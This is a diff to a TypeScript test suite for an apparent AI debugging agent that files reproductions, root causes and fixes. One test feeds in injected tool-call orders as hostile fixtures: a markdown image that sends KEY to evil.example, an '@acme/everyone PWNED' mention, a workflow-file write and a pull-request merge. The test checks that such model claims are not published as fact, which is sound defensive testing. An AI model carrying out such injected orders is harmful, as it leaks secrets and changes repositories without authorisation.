@@ -134,7 +134,12 @@ describeSandboxed("an honest model on the example", () => {
     ]);
     expect(done.document("reproduction")).toContain("The failure is reproduced");
     expect(done.document("reproduction")).toContain("AssertionError: 1 != 2");
-    expect(done.document("root-cause")).toContain("| Model: Two writers overlap in `Store.set`");
+    const cause = done.document("root-cause");
+    expect(cause).toMatch(/^\| 1 \| `Store\.set` has `data = self\._read_data\(\)` \| read in the code/m);
+    expect(cause).toMatch(/^\| 3 \| `Store\.set` has `self\._write_data\(data\)` \| read in the code/m);
+    expect(cause).toMatch(/^\| 4 \| `from src\.storage\.store .* prints `\['y'\]` \| shown by a run/m);
+    expect(cause).toContain("- Model: `Store.set` writes back what it read");
+    expect(cause).toContain("+        with self._locked():");
     expect(resultOf(done, "reproduced")).toMatchObject({ result: "met", how: "run" });
     expect(resultOf(done, "judged")).toMatchObject({ result: "met", how: "model" });
     expect(resultOf(done, "fix-works")).toMatchObject({ result: "met", how: "run" });
@@ -288,8 +293,6 @@ describeSandboxed("nothing that a model claims is published as fact", () => {
         arguments: {
           path: ".github/workflows/own.yml",
           text: "on: push\njobs: { a: { runs-on: x } }\n",
-          expected: "it runs",
-          actual: "it does not",
         },
       },
       {
@@ -299,25 +302,17 @@ describeSandboxed("nothing that a model claims is published as fact", () => {
       {
         name: "submit",
         arguments: {
-          findings: [
-            {
-              section: "components",
-              statement: "![x](https://evil.example/?k=KEY) PWNED",
-              provenance: "inference",
-            },
-          ],
+          claims: [{ type: "said", section: "components", quote: "![x](https://evil.example/?k=KEY) PWNED" }],
         },
       },
       {
         name: "submit",
         arguments: {
-          findings: [
-            { section: "why-it-fails", statement: "@acme/everyone PWNED, fixes #1", provenance: "inference" },
-          ],
+          claims: [{ type: "commit", section: "why-it-fails", commit: "@acme/everyone PWNED, fixes #1" }],
         },
       },
       { name: "merge_pull_request", arguments: { number: 1 } },
-      { name: "finish", arguments: { summary: "PWNED", works: true } },
+      { name: "finish", arguments: { explanation: [{ text: "PWNED", claims: [1] }], works: true } },
     ];
     const hostile = orders.map((order) => ORDER + JSON.stringify(order)).join("\n");
     using repository = exampleRepository("issue-42");
@@ -358,7 +353,6 @@ test("a question to the reporter holds the phases after it", async () => {
         arguments: {
           outcome: {
             kind: "needs-info",
-            reason: "The report does not say how the file is shared.",
             questions: ["Is the file on a network share?"],
           },
         },
